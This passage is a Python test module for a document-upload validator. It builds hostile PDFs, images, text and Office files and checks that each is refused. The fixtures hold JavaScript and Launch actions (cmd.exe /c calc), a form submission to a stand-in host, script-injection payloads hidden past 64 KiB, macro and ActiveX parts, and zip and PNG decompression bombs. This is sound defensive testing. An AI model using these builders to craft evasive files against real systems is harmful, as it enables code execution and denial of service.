"""A corpus of hostile files, built here, one case per class the upload check refuses.

Each class is a kind of attack, not one sample: JavaScript in a PDF is tried in the names tree,
in a page's additional actions, in a link, inside a compressed object stream, and as a stray
object with an escaped name. Every hostile file goes through the service and must be refused
with its Dutch reason, leaving no row and no stored file; ordinary files of every kind must
still be accepted.

The builders write real files: PDFs by hand (with a correct cross-reference table) or with
pypdf, office files with zipfile, compound files (.doc, .xls, .ppt) with the small writer
below, images with Pillow.
"""

from __future__ import annotations

import contextlib
import io
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation

from dossier.core.access import user_flags
from dossier.documenten.models import Document, DocumentVersie
from dossier.documenten.services import document_new_version
from dossier.documenten.tests.test_uploads import (
    image_bytes,
    pdf_bytes,
    share,
    stored_files,
    upload,
)
from samenwerking import uploads
from samenwerking.uploads import check_upload


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path) -> Path:
    root = tmp_path / "media"
    root.mkdir()
    settings.MEDIA_ROOT = str(root)
    return root


def reason(refusal: Callable[..., ValidationError], *args) -> Callable[[], str]:
    return lambda: refusal(*args).messages[0]


# --- PDF -------------------------------------------------------------------------------------


def raw_pdf(objects: list[bytes], *, trailer: bytes = b"", after: bytes = b"") -> bytes:
    """A PDF from object bodies (object 1 is the catalog), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref + after
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def page(extra: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + extra + b" >>"


def catalog(extra: bytes = b"") -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>"


def pdf_catalog(extra: bytes, *more: bytes) -> bytes:
    return raw_pdf([catalog(extra), PAGES, page(), *more])


def pdf_page(extra: bytes, *more: bytes) -> bytes:
    return raw_pdf([catalog(), PAGES, page(extra), *more])


def pdf_link(action: bytes) -> bytes:
    """A link annotation on the page, with an action."""
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A " + action + b" >>"
    return pdf_page(b"/Annots [4 0 R]", annotation)


def pdf_annotation(subtype: bytes, extra: bytes = b"") -> bytes:
    annotation = b"<< /Type /Annot /Subtype " + subtype + b" /Rect [0 0 50 50] " + extra + b" >>"
    return pdf_page(b"/Annots [4 0 R]", annotation)


def pdf_object_stream(hidden: dict[int, bytes], catalog_body: bytes) -> bytes:
    """Everything but the xref stream inside one compressed object stream (PDF 1.5).

    Nothing of the catalog, the pages or ``hidden`` is in the raw bytes: only a parser that
    reads object streams sees it.
    """
    bodies = {1: catalog_body, 2: PAGES, 3: page(), **hidden}
    numbers = sorted(bodies)
    header, data = [], b""
    for number in numbers:
        header.append(b"%d %d" % (number, len(data)))
        data += bodies[number] + b"\n"
    head = b" ".join(header) + b"\n"
    packed = zlib.compress(head + data)
    stream_number = max(numbers) + 1
    xref_number = stream_number + 1
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n" % (
        stream_number,
        len(numbers),
        len(head),
        len(packed),
    )
    out += b"stream\n" + packed + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, xref_number + 1):
        if number in bodies:
            rows.append(struct.pack(">BIH", 2, stream_number, numbers.index(number)))
        elif number == stream_number:
            rows.append(struct.pack(">BIH", 1, stream_offset, 0))
        elif number == xref_number:
            rows.append(struct.pack(">BIH", 1, xref_offset, 0))
        else:
            rows.append(struct.pack(">BIH", 0, 0, 0))
    table = b"".join(rows)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        len(table),
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def hex_string(text: str) -> bytes:
    """A PDF string in hex, so that its text is not in the raw bytes."""
    return b"<" + text.encode().hex().encode() + b">"


def pdf_with_attachment() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("factuur.exe", b"MZ\x90\x00")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_encrypted(algorithm: str) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt(user_password="", owner_password="geheim", algorithm=algorithm)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_padded_with(payload: bytes, pad: int = 70 * 1024) -> bytes:
    """A real PDF whose metadata stream pushes ``payload`` past the first 64 KiB."""
    filler = b"<< /Length %d >>\nstream\n" % (pad + len(payload)) + b"A" * pad + payload
    return pdf_catalog(b"/Metadata 4 0 R", filler + b"\nendstream")


def weasyprint_pdf() -> bytes:
    from weasyprint import HTML

    return HTML(
        string="<h1>Samenwerkingsafspraken</h1><p>Zie <a href='https://www.vlaanderen.be'>"
        "onderwijs.vlaanderen.be</a> en <a href='mailto:zorg@school.be'>de zorgcoördinator"
        "</a>.</p><p id='b'>Tweede deel</p><a href='#b'>naar boven</a>"
    ).write_pdf()


PDF_JS = reason(uploads._pdf_javascript)
PDF_AUTO = reason(uploads._pdf_auto_action)
PDF_EMBEDDED = reason(uploads._pdf_embedded)
PDF_MEDIA = reason(uploads._pdf_media)
PDF_XFA = reason(uploads._pdf_xfa)
PDF_UNREADABLE = reason(uploads._pdf_unreadable)
PDF_ENCRYPTED = reason(uploads._pdf_encrypted)
MARKUP = reason(uploads._markup)

JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"

PDF_CASES: dict[str, tuple[str, Callable[[], bytes], Callable[[], str]]] = {
    "pdf javascript in the names tree": (
        "a.pdf",
        lambda: pdf_catalog(b"/Names << /JavaScript << /Names [(x) 4 0 R] >> >>", JS_ACTION),
        PDF_JS,
    ),
    "pdf openaction javascript": (
        "a.pdf",
        lambda: pdf_catalog(b"/OpenAction 4 0 R", JS_ACTION),
        PDF_JS,
    ),
    "pdf openaction with another action": (
        "a.pdf",
        lambda: pdf_catalog(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
        PDF_AUTO,
    ),
    "pdf page additional action": (
        "a.pdf",
        lambda: pdf_page(b"/AA << /O << /S /Named /N /NextPage >> >>"),
        PDF_AUTO,
    ),
    "pdf catalog additional action javascript": (
        "a.pdf",
        lambda: pdf_catalog(b"/AA << /WC 4 0 R >>", JS_ACTION),
        PDF_JS,
    ),
    "pdf link with javascript": ("a.pdf", lambda: pdf_link(JS_ACTION), PDF_JS),
    "pdf javascript stream": (
        "a.pdf",
        lambda: raw_pdf(
            [
                catalog(b"/OpenAction 4 0 R"),
                PAGES,
                page(),
                b"<< /S /JavaScript /JS 5 0 R >>",
                b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
            ]
        ),
        PDF_JS,
    ),
    "pdf javascript hidden in an object stream": (
        "a.pdf",
        lambda: pdf_object_stream(
            {4: JS_ACTION}, catalog(b"/Names << /JavaScript << /Names [(x) 4 0 R] >> >>")
        ),
        PDF_JS,
    ),
    "pdf launch hidden in an object stream": (
        "a.pdf",
        lambda: pdf_object_stream(
            {4: b"<< /S /Launch /F (cmd.exe) >>"}, catalog(b"/OpenAction 4 0 R")
        ),
        lambda: uploads._pdf_action("Launch").messages[0],
    ),
    "pdf stray object with an escaped name": (
        "a.pdf",
        lambda: raw_pdf(
            [catalog(), PAGES, page()],
            after=b"9 0 obj << /S /J#61vaScript /JS (app.alert(1)) >> endobj\n",
        ),
        PDF_JS,
    ),
    "pdf launch action": (
        "a.pdf",
        lambda: pdf_link(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        lambda: uploads._pdf_action("Launch").messages[0],
    ),
    "pdf launch action with escaped name": (
        "a.pdf",
        lambda: pdf_link(b"<< /S /L#61unch /F (calc.exe) >>"),
        lambda: uploads._pdf_action("Launch").messages[0],
    ),
    "pdf submit form": (
        "a.pdf",
        lambda: pdf_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://x.example/) >> >>"),
        lambda: uploads._pdf_action("SubmitForm").messages[0],
    ),
    "pdf import data": (
        "a.pdf",
        lambda: pdf_link(b"<< /S /ImportData /F (data.fdf) >>"),
        lambda: uploads._pdf_action("ImportData").messages[0],
    ),
    "pdf remote goto": (
        "a.pdf",
        lambda: pdf_link(b"<< /S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
        lambda: uploads._pdf_action("GoToR").messages[0],
    ),
    "pdf embedded goto": (
        "a.pdf",
        lambda: pdf_link(b"<< /S /GoToE /T << /R /C /N (x) >> >>"),
        lambda: uploads._pdf_action("GoToE").messages[0],
    ),
    "pdf uri javascript in hex": (
        "a.pdf",
        lambda: pdf_link(b"<< /S /URI /URI " + hex_string("javascript:alert(1)") + b" >>"),
        lambda: uploads._unsafe_link("javascript").messages[0],
    ),
    "pdf uri javascript with tabs": (
        "a.pdf",
        lambda: pdf_link(b"<< /S /URI /URI " + hex_string("java\tscript:alert(1)") + b" >>"),
        lambda: uploads._unsafe_link("javascript").messages[0],
    ),
    "pdf uri to a local file": (
        "a.pdf",
        lambda: pdf_link(b"<< /S /URI /URI (file:///C:/Windows/system32/calc.exe) >>"),
        lambda: uploads._unsafe_link("file").messages[0],
    ),
    "pdf embedded files with pypdf": ("a.pdf", pdf_with_attachment, PDF_EMBEDDED),
    "pdf embedded file stream": (
        "a.pdf",
        lambda: pdf_catalog(
            b"/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) "
            b"/EF << /F 4 0 R >> >>] >> >>",
            b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
        ),
        PDF_EMBEDDED,
    ),
    "pdf file attachment annotation": (
        "a.pdf",
        lambda: pdf_annotation(b"/FileAttachment", b"/FS << /Type /Filespec /F (x.exe) >>"),
        PDF_EMBEDDED,
    ),
    "pdf xfa form": (
        "a.pdf",
        lambda: pdf_catalog(
            b"/AcroForm << /Fields [] /XFA 4 0 R >>",
            b"<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream",
        ),
        PDF_XFA,
    ),
    "pdf rich media annotation": ("a.pdf", lambda: pdf_annotation(b"/RichMedia"), PDF_MEDIA),
    "pdf screen annotation with rendition": (
        "a.pdf",
        lambda: pdf_annotation(b"/Screen", b"/A << /S /Rendition /OP 0 >>"),
        PDF_MEDIA,
    ),
    "pdf 3d annotation": ("a.pdf", lambda: pdf_annotation(b"/3D"), PDF_MEDIA),
    "pdf encrypted rc4": ("a.pdf", lambda: pdf_encrypted("RC4-128"), PDF_ENCRYPTED),
    "pdf encrypted aes-256": ("a.pdf", lambda: pdf_encrypted("AES-256"), PDF_ENCRYPTED),
    "pdf unparsable": ("a.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, PDF_UNREADABLE),
    "pdf truncated": ("a.pdf", lambda: pdf_bytes("afgebroken")[:150], PDF_UNREADABLE),
    "pdf html after 64 KiB": (
        "a.pdf",
        lambda: pdf_padded_with(b"<html><script>alert(1)</script></html>"),
        MARKUP,
    ),
    "pdf html at the chunk border": (
        "a.pdf",
        lambda: pdf_padded_with(b"<script>alert(1)</script>", pad=uploads._CHUNK - 300),
        MARKUP,
    ),
    "pdf event handler after 64 KiB": (
        "a.pdf",
        lambda: pdf_padded_with(b'<img src=x onerror="alert(1)">'),
        MARKUP,
    ),
}


# --- images ----------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_chunk(kind: bytes, data: bytes, base: bytes | None = None) -> bytes:
    """A real PNG with one more chunk just before IEND."""
    base = base or image_bytes("PNG")
    end = base.rindex(b"IEND") - 4
    return base[:end] + png_chunk(kind, data) + base[end:]


def noisy_png(size: int = 200) -> bytes:
    """Over 64 KiB: random pixels do not pack."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.frombytes("RGB", (size, size), bytes(range(256)) * (size * size * 3 // 256 + 1)).save(
        buffer, "PNG", compress_level=0
    )
    return buffer.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims to be huge: the pixel limit must hold before decoding."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compressobj(9)
    data = rows.compress(b"\x00" * 1024) + rows.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", data)
        + png_chunk(b"IEND", b"")
    )


def png_bomb() -> bytes:
    """30 000 x 30 000 one-bit pixels (900 megapixels) in about 100 KB."""
    width = height = 30000
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = b"\x00" * (1 + width // 8)
    data = b"".join(packer.compress(row * 1000) for _ in range(height // 1000)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", data)
        + png_chunk(b"IEND", b"")
    )


def jpeg_with_comment(comment: bytes) -> bytes:
    base = image_bytes("JPEG", (64, 64))
    return base[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + base[2:]


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real JPEG whose frame header is changed to claim other dimensions."""
    data = bytearray(image_bytes("JPEG", (16, 16)))
    frame = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, frame + 5, height, width)
    return bytes(data)


def corrupt_png_crc() -> bytes:
    data = bytearray(image_bytes("PNG"))
    data[30] ^= 0xFF  # inside IHDR: its CRC no longer matches
    return bytes(data)


IMAGE_DAMAGED_PNG = reason(uploads._image_damaged, "PNG")
IMAGE_DAMAGED_JPEG = reason(uploads._image_damaged, "JPEG")


def image_too_large(pixels: int) -> Callable[[], str]:
    return lambda: uploads._image_too_large(pixels, uploads.MAX_IMAGE_PIXELS).messages[0]


IMAGE_CASES = {
    "png html after 64 KiB in a text chunk": (
        "a.png",
        lambda: png_with_chunk(b"tEXt", b"Comment\x00<html><script>alert(1)</script>", noisy_png()),
        MARKUP,
    ),
    "png html after the end": ("a.png", lambda: noisy_png() + b"<script>alert(1)</script>", MARKUP),
    "png data after the end": (
        "a.png",
        lambda: image_bytes("PNG") + b"PK\x03\x04" + b"\x00" * 40,
        reason(uploads._image_trailing),
    ),
    "png svg in a text chunk": (
        "a.png",
        lambda: png_with_chunk(b"tEXt", b"x\x00<svg/onload=alert(1)>"),
        MARKUP,
    ),
    "png bad crc": ("a.png", corrupt_png_crc, IMAGE_DAMAGED_PNG),
    "png truncated": ("a.png", lambda: noisy_png()[:5000], IMAGE_DAMAGED_PNG),
    "png claims too many pixels": (
        "a.png",
        lambda: png_header_only(20000, 20000),
        image_too_large(20000 * 20000),
    ),
    "png decompression bomb": ("a.png", png_bomb, image_too_large(30000 * 30000)),
    "png broken pixel data": (
        "a.png",
        lambda: (
            png_header_only(64, 64)[:33]
            + png_chunk(b"IDAT", b"\x78\x9c" + b"\xff" * 50)
            + png_chunk(b"IEND", b"")
        ),
        IMAGE_DAMAGED_PNG,
    ),
    "jpeg named png": (
        "a.png",
        lambda: image_bytes("JPEG"),
        lambda: uploads._mismatch("png").messages[0],
    ),
    "png named jpg": (
        "a.jpg",
        lambda: image_bytes("PNG"),
        lambda: uploads._mismatch("jpg").messages[0],
    ),
    "gif named png": (
        "a.png",
        lambda: image_bytes("GIF"),
        lambda: uploads._mismatch("png").messages[0],
    ),
    "jpeg truncated": (
        "a.jpg",
        lambda: image_bytes("JPEG", (256, 256))[:400],
        IMAGE_DAMAGED_JPEG,
    ),
    "jpeg claims too many pixels": (
        "a.jpg",
        lambda: jpeg_claiming(30000, 30000),
        image_too_large(30000 * 30000),
    ),
    "jpeg only a header": (
        "a.jpg",
        lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9",
        IMAGE_DAMAGED_JPEG,
    ),
    "jpeg script in a comment after 64 KiB": (
        "a.jpg",
        lambda: jpeg_with_comment(b"A" * 65000 + b"<script>alert(1)</script>"),
        MARKUP,
    ),
    "jpeg utf-16 script": (
        "a.jpg",
        lambda: jpeg_with_comment("<script>alert(1)</script>".encode("utf-16-le")),
        MARKUP,
    ),
}


# --- text ------------------------------------------------------------------------------------

TEXT_CASES = {
    "txt html after 64 KiB": (
        "a.txt",
        lambda: b"Verslag van het overleg.\n" * 4000 + b"<iframe src='https://x.example'>",
        MARKUP,
    ),
    "txt script split over the chunk border": (
        "a.txt",
        lambda: b"a" * (uploads._CHUNK - 4) + b"<script>alert(1)</script>",
        MARKUP,
    ),
    "txt event handler": ("a.txt", lambda: b'Tekst <img src=x onerror="alert(1)"> tekst', MARKUP),
    "txt vbscript url": ("a.txt", lambda: b"klik vbscript:msgbox(1)", MARKUP),
    "txt meta refresh": (
        "a.txt",
        lambda: b'<meta http-equiv="refresh" content="0;url=https://x.example">',
        MARKUP,
    ),
    "txt namespaced script": (
        "a.txt",
        lambda: b'<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
        MARKUP,
    ),
}


# --- office files (zip) ----------------------------------------------------------------------

CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = {
    "docx": (
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    ),
    "xlsx": (
        "xl/workbook.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    ),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}
BODY = {
    "docx": f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body><w:p><w:r><w:t>Afspraken'
    "</w:t></w:r></w:p>{}</w:body></w:document>",
    "xlsx": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    f'xmlns:r="{R}"><sheets><sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets>{{}}'
    "</workbook>",
    "pptx": '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/'
    f'main" xmlns:r="{R}">{{}}</p:presentation>',
}
SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Leerlingen</t></is></c><c r="B1"><f>SUM(1,2)</f>'
    '<v>3</v></c><c r="C1" t="str"><f>"a|b"&amp;\'Blad | 2\'!A1</f><v>a|b</v></c></row>'
    "{}</sheetData></worksheet>"
)


def relationships(*items: tuple[str, str, str, str | None]) -> str:
    """(id, type, target, target mode) -> a .rels part."""
    rows = "".join(
        f'<Relationship Id="{rid}" Type="{kind if "/" in kind else R + "/" + kind}" '
        f'Target="{target}"' + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for rid, kind, target, mode in items
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">{rows}</Relationships>'


def ooxml(
    kind: str = "docx",
    *,
    body: str = "",
    parts: dict[str, bytes | str] | None = None,
    types: dict[str, str] | None = None,
    defaults: dict[str, str] | None = None,
    main_type: str | None = None,
    main_rels: list[tuple[str, str, str, str | None]] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A small but complete OOXML package: content types, relationships, the main part."""
    main, default_main_type = MAIN[kind]
    folder = main.rpartition("/")[0]
    all_parts: dict[str, bytes | str] = {main: BODY[kind].format(body)}
    all_types = {"/" + main: main_type or default_main_type}
    if kind == "xlsx":
        all_parts["xl/worksheets/sheet1.xml"] = SHEET.format("")
        all_types["/xl/worksheets/sheet1.xml"] = (
            "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
        )
        main_rels = [("rId1", "worksheet", "worksheets/sheet1.xml", None), *(main_rels or [])]
    all_parts.update(parts or {})
    all_types.update(types or {})
    all_defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        "png": "image/png",
        **(defaults or {}),
    }
    content_types = (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT}">'
        + "".join(
            f'<Default Extension="{ext}" ContentType="{value}"/>'
            for ext, value in all_defaults.items()
        )
        + "".join(
            f'<Override PartName="{name}" ContentType="{value}"/>'
            for name, value in all_types.items()
        )
        + "</Types>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", relationships(("rId1", "officeDocument", main, None)))
        if main_rels:
            archive.writestr(
                f"{folder}/_rels/{main.rpartition('/')[2]}.rels", relationships(*main_rels)
            )
        for name, data in all_parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_of(entries: dict[str, bytes | str], *, comment: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
        archive.comment = comment
    return buffer.getvalue()


def ooxml_with_raw_name(name: str) -> bytes:
    """zipfile cleans some names; this writes the name as given into both headers."""
    placeholder = "word/" + "x" * (len(name.encode()) - 5)
    assert len(placeholder.encode()) == len(name.encode())
    data = ooxml(parts={placeholder: "<x/>"})
    return data.replace(placeholder.encode(), name.encode())


def ooxml_with_flag(flag: int) -> bytes:
    """An entry that says it is encrypted (zipfile cannot write real encryption)."""
    data = bytearray(ooxml())
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = archive.getinfo("word/document.xml")
    record = central_record(bytes(data), archive.start_dir, info.filename)
    for offset in (info.header_offset + 6, record + 8):
        struct.pack_into("<H", data, offset, struct.unpack_from("<H", data, offset)[0] | flag)
    return bytes(data)


def zip_bomb(unpacked: int, name: str = "word/media/image1.png", zip64: bool = True) -> bytes:
    """A real, valid docx with one part of ``unpacked`` zero bytes, written streaming."""
    buffer = io.BytesIO(ooxml())
    block = b"\x00" * (1024 * 1024)
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open(name, "w", force_zip64=zip64) as part,
    ):
        for _ in range(unpacked // len(block)):
            part.write(block)
    return buffer.getvalue()


def zip_lying_sizes() -> bytes:
    """The central directory says every part is tiny; one unpacks to 30 MB."""
    data = bytearray(zip_bomb(30 * 1024 * 1024, "word/media/big.bin", zip64=False))
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    record = central_record(bytes(data), archive.start_dir, "word/media/big.bin")
    struct.pack_into("<I", data, record + 24, 1000)  # declared: 1000 bytes unpacked
    return bytes(data)


def central_record(data: bytes, start: int, name: str) -> int:
    """Where the central directory record of ``name`` starts."""
    record = start
    while True:
        name_length, extra, comment = struct.unpack_from("<HHH", data, record + 28)
        if data[record + 46 : record + 46 + name_length] == name.encode():
            return record
        record += 46 + name_length + extra + comment


def overlapping_zip() -> bytes:
    """Two central records point at one local entry (the "better zip bomb" trick)."""
    data = ooxml()
    archive = zipfile.ZipFile(io.BytesIO(data))
    start = archive.start_dir
    end = data.rindex(b"PK\x05\x06")
    record = central_record(data, start, "word/document.xml")
    name_length, extra, comment = struct.unpack_from("<HHH", data, record + 28)
    copy = bytearray(data[record : record + 46 + name_length + extra + comment])
    copy[46 + name_length - 1 : 46 + name_length] = b"2"  # word/document.xm2, same data
    eocd = bytearray(data[end:])
    count = struct.unpack_from("<H", eocd, 10)[0] + 1
    struct.pack_into("<HHI", eocd, 8, count, count, end - start + len(copy))
    return data[:end] + bytes(copy) + bytes(eocd)


def zip_with_hidden_data() -> bytes:
    """An extra blob between the entries and the central directory."""
    data = ooxml()
    archive = zipfile.ZipFile(io.BytesIO(data))
    start = archive.start_dir
    hidden = b"MZ" + b"\x90" * 4000
    end = data.rindex(b"PK\x05\x06")
    eocd = bytearray(data[end:])
    struct.pack_into("<I", eocd, 16, start + len(hidden))
    return data[:start] + hidden + data[start:end] + bytes(eocd)


def doc_fields(*instructions: str) -> str:
    """A field whose instruction is split across runs, as Word does."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
        for piece in instructions
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


OLE_BLOB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def svg(body: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">{body}</svg>'


MACROS = reason(uploads._office_macros)
ACTIVE = reason(uploads._office_active)
OFFICE_MARKUP = reason(uploads._office_markup)
DDE = reason(uploads._office_dde)
UNUSUAL = reason(uploads._office_unusual)
DAMAGED = reason(uploads._office_damaged)
ENCRYPTED = reason(uploads._office_encrypted)
UNSAFE_NAMES = reason(uploads._office_unsafe_names)
PROGRAM = reason(uploads._program)


def external(kind: str) -> Callable[[], str]:
    return lambda: uploads._office_external(kind).messages[0]


def mismatch(ext: str) -> Callable[[], str]:
    return lambda: uploads._mismatch(ext).messages[0]


VBA_TYPE = "application/vnd.ms-office.vbaProject"

OOXML_CASES = {
    "docx vbaProject.bin": (
        "a.docx",
        lambda: ooxml(
            parts={"word/vbaProject.bin": OLE_BLOB},
            defaults={"bin": VBA_TYPE},
            main_rels=[
                (
                    "rId9",
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                    "vbaProject.bin",
                    None,
                )
            ],
        ),
        MACROS,
    ),
    "docx macro part under another name": (
        "a.docx",
        lambda: ooxml(parts={"word/data.dat": OLE_BLOB}, defaults={"dat": VBA_TYPE}),
        MACROS,
    ),
    "docx with the docm main type": (
        "a.docx",
        lambda: ooxml(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        MACROS,
    ),
    "xlsx with the xlsm main type": (
        "a.xlsx",
        lambda: ooxml("xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        MACROS,
    ),
    "pptx with the pptm main type": (
        "a.pptx",
        lambda: ooxml(
            "pptx",
            main_type="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
        ),
        MACROS,
    ),
    "xlsx excel 4 macro sheet": (
        "a.xlsx",
        lambda: ooxml(
            "xlsx",
            parts={"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"},
            types={"/xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
        ),
        MACROS,
    ),
    "docx vba data part": (
        "a.docx",
        lambda: ooxml(parts={"word/vbaData.xml": "<wne:vbaSuppData/>"}),
        MACROS,
    ),
    "docx embedded docm": (
        "a.docx",
        lambda: ooxml(parts={"word/embeddings/inhoud.docm": ooxml()}),
        MACROS,
    ),
    "docx embedded xlsx with macros": (
        "a.docx",
        lambda: ooxml(
            parts={
                "word/embeddings/Microsoft_Excel_Worksheet.xlsx": ooxml(
                    "xlsx", parts={"xl/vbaProject.bin": OLE_BLOB}
                )
            },
            defaults={"xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
        ),
        MACROS,
    ),
    "docx activex control": (
        "a.docx",
        lambda: ooxml(
            parts={"word/activeX/activeX1.xml": "<ax:ocx/>"},
            types={"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
        ),
        ACTIVE,
    ),
    "docx activex under another name": (
        "a.docx",
        lambda: ooxml(
            parts={"word/ctl/c1.xml": "<ax:ocx/>"},
            types={"/word/ctl/c1.xml": "application/vnd.ms-office.activeX+xml"},
        ),
        ACTIVE,
    ),
    "docx control relationship": (
        "a.docx",
        lambda: ooxml(main_rels=[("rId7", "control", "ctl/c1.xml", None)]),
        ACTIVE,
    ),
    "docx ole object": (
        "a.docx",
        lambda: ooxml(
            parts={"word/embeddings/oleObject1.bin": OLE_BLOB},
            defaults={"bin": "application/vnd.openxmlformats-officedocument.oleObject"},
            main_rels=[("rId5", "oleObject", "embeddings/oleObject1.bin", None)],
        ),
        ACTIVE,
    ),
    "pptx ole object part with a harmless name": (
        "a.pptx",
        lambda: ooxml("pptx", parts={"ppt/media/image9.png": OLE_BLOB}),
        ACTIVE,
    ),
    "docx embedded plain zip": (
        "a.docx",
        lambda: ooxml(parts={"word/embeddings/x.zip": zip_of({"setup.txt": "x"})}),
        ACTIVE,
    ),
    "docx external attached template": (
        "a.docx",
        lambda: ooxml(
            parts={
                "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{R}">'
                '<w:attachedTemplate r:id="rId1"/></w:settings>',
